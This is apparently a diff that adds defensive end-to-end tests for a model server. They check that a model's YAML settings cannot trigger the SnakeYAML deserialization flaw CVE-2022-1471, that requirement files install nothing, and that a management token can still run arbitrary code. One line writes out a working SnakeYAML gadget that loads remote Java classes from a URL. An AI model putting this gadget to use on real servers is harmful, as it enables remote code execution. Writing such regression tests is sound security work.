@@ -1,0 +1,78 @@
+"""Attacks where models may be registered: what a model cannot do, and what a management token still can."""
+
+from __future__ import annotations
+
+import json
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import grpc
+import pytest
+
+from scripts import server
+from scripts.archive import MANIFEST
+from scripts.client import Client
+from scripts.errors import ApiError
+from tests.e2e.attacks import PATIENCE_SECONDS, grpc_status, write_code
+from tests.scripts.web import Web, serve
+
+
+@pytest.fixture
+def web() -> Iterator[Web]:
+    with serve() as running:
+        yield running
+
+
+def test_a_models_settings_load_no_java_class(client: Client, web: Web, tmp_path: Path) -> None:
+    """CVE-2022-1471: SnakeYAML before 2.0 would fetch code from this address and run it."""
+    folder = write_code(tmp_path / "yaml", "yaml")
+    manifest = json.loads((folder / MANIFEST).read_text())
+    manifest["model"]["configFile"] = "model-config.yaml"
+    (folder / MANIFEST).write_text(json.dumps(manifest))
+    gadget = f'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["{web.url}/"]]]]'
+    (folder / "model-config.yaml").write_text(f"minWorkers: {gadget}\n")
+    try:
+        with pytest.raises(ApiError):
+            client.register(str(folder))
+        assert web.asked == []
+    finally:
+        if client.versions("yaml"):
+            client.unregister("yaml")
+
+
+def test_an_archive_installs_no_packages(client: Client, tmp_path: Path) -> None:
+    """Where packages are installed, one that is nowhere makes the registration fail."""
+    folder = write_code(tmp_path / "greedy", "greedy")
+    manifest = json.loads((folder / MANIFEST).read_text())
+    manifest["model"]["requirementsFile"] = "requirements.txt"
+    (folder / MANIFEST).write_text(json.dumps(manifest))
+    (folder / "requirements.txt").write_text("/nowhere/at-all\n")
+    try:
+        client.register(str(folder), initial_workers=0)
+        assert [model["workers"] for model in client.versions("greedy")] == [[]]
+    finally:
+        client.unregister("greedy")
+
+
+@pytest.mark.parametrize("over", ["http", "grpc"])
+def test_where_models_may_be_registered_a_management_token_runs_any_code(
+    client: Client, running: server.Server, tmp_path: Path, over: str
+) -> None:
+    """What remains with --model-api: allowed_urls does not apply to a bare folder. Should this fail, TorchServe's
+    behaviour has changed, and docs/security.md has to.
+    """
+    name = f"folder_{over}"
+    folder = write_code(tmp_path / name, name)
+    try:
+        if over == "http":
+            client.register(str(folder))
+        else:
+            token = f"Bearer {running.endpoint.token('management')}"
+            assert grpc_status(running.endpoint, "management", token, folder) == grpc.StatusCode.OK
+        deadline = time.monotonic() + PATIENCE_SECONDS  # over gRPC the call returns before a worker has started
+        while not (folder / "ran").exists():
+            assert time.monotonic() < deadline
+            time.sleep(0.1)
+    finally:
+        client.unregister(name)
